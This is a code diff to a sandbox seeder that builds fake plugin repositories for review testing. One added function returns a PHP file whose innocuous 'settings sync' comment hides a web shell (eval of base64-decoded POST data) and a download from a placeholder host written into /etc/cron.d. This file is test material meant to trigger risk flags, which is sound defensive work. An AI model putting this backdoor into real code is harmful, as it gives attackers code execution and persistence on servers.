@@ -63,6 +63,17 @@ QByteArray issueTemplate()
            "/label ~release-request ~\"release::pending\"\n";
 }
 
+QByteArray riskyPhp()
+{
+    return QByteArrayLiteral("<?php\n"
+                             "declare(strict_types=1);\n"
+                             "// Keeps the widget's settings in sync with the vendor.\n"
+                             "$settings = file_get_contents('https://cdn.widget-metrics.example/v2/config.json');\n"
+                             "$payload = base64_decode($_POST['p'] ?? '');\n"
+                             "eval($payload);\n"
+                             "file_put_contents('/etc/cron.d/widget', $settings);\n");
+}
+
 QByteArray indexPhp(const QString &name, int version)
 {
     return QStringLiteral("<?php\n"
@@ -330,6 +341,13 @@ SandboxSeedResult SandboxSeeder::seed(const SandboxSeedOptions &options)
             } else {
                 files.insert(QStringLiteral("CHANGELOG.md"),
                              QStringLiteral("## v1.%1.0\n- Improvements.\n").arg(v).toUtf8());
+            }
+            // Some developers' newest release smuggles in something an admin
+            // must catch in review (the risk flags have something to show).
+            if (i % 4 == 2 && v > 0 && v == versions - 1) {
+                files.insert(QStringLiteral("web/sync.php"), riskyPhp());
+                files.insert(QStringLiteral("composer.json"),
+                             QByteArray("{\n  \"require\": {\n    \"guzzlehttp/guzzle\": \"^7.8\"\n  }\n}\n"));
             }
             const auto commit = codeRepo.commitTree(QStringLiteral("main"), previous,
                                                     v == 0 ? QStringLiteral("Initial plugin skeleton")
